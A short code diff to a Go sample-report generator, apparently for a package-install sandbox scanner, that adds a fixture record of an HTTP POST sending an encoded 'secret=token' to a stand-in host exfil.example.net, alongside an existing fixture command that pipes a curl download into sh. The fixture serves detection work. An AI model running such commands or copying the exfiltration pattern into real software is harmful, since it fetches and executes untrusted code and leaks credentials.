@@ -139,6 +139,8 @@ func SampleReport(project, version string, o Options) *report.Report {
 		verdict, reason = report.VerdictHarmful, "a high-severity finding: Network connection attempted"
 		install.Behavior.NetworkAttempts = []string{"203.0.113.7:443"}
 		install.Behavior.DNSQueries = []string{"exfil.example.net"}
+		install.Behavior.Contacts = []report.Contact{{Transport: "tcp", Name: "exfil.example.net", Address: "198.18.0.2:80", Protocol: "http",
+			Method: "POST", URL: "http://exfil.example.net/u", Data: "k=c2VjcmV0PXRva2Vu", Decoded: []string{"secret=token"}, Size: 120}}
 		install.Behavior.Executed = append(install.Behavior.Executed, "/bin/sh -c curl http://203.0.113.7/x | sh")
 		findings = append(findings, report.Finding{Source: "behavior", Phase: "install", RuleID: "network-attempt", Severity: report.SeverityHigh,
 			Title: "Network connection attempted", Message: "pid 42 tried to reach 203.0.113.7:443 (connect); refused. The sandbox has no network.",
